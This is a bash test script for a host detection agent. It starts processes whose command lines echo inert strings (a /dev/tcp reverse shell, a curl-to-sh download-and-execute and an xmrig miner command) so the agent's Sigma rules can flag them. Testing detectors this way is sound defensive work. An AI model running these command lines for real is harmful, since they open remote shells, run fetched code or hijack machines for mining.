#!/usr/bin/env bash
# Starts programs whose command lines look like a reverse shell, a download-and-execute pipeline
# and a miner — as inert strings echoed to /dev/null, so nothing connects or runs — plus a
# harmless one, while the agent watches exec events.
set -u
mimamori-agent --eve eve.json --run-for 5 --set agent.state_dir=$PWD/state \
  --set auth.enabled=false --set fim.enabled=false --set persistence.enabled=false \
  --set ransomware.enabled=false --set agent.poll_interval_ms=200 \
  --set process.sigma_rules="$SIGMA_RULES" 2>agent.log &
agent=$!
# Start-up (Sigma compilation) is slow under sanitizers: wait for it up to 30 s.
for _ in $(seq 300); do grep -q "agent running" agent.log && break; sleep 0.1; done
sh -c 'sleep 1; echo "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1" >/dev/null' &
sh -c 'sleep 1; echo "curl -fsSL http://198.51.100.9/i.sh | sh" >/dev/null' &
sh -c 'sleep 1; echo "./xmrig -o stratum+tcp://pool.example.net:3333 -u wallet" >/dev/null' &
sh -c 'sleep 1; echo "ordinary work: tar czf backup.tgz /srv/data" >/dev/null' &
# Matches SigmaHQ's "Python WebServer Execution - Linux" (a real server on a loopback port).
python3 -m http.server 0 --bind 127.0.0.1 >/dev/null 2>&1 &
web=$!
sleep 1.5
kill $web
wait %2 %3 %4 %5
wait $agent
cat agent.log >&2
grep -o "[0-9]* Sigma linux process_creation rules loaded" agent.log
if [[ $(id -u) -ne 0 ]]; then echo "note: not root, /proc polling"; fi
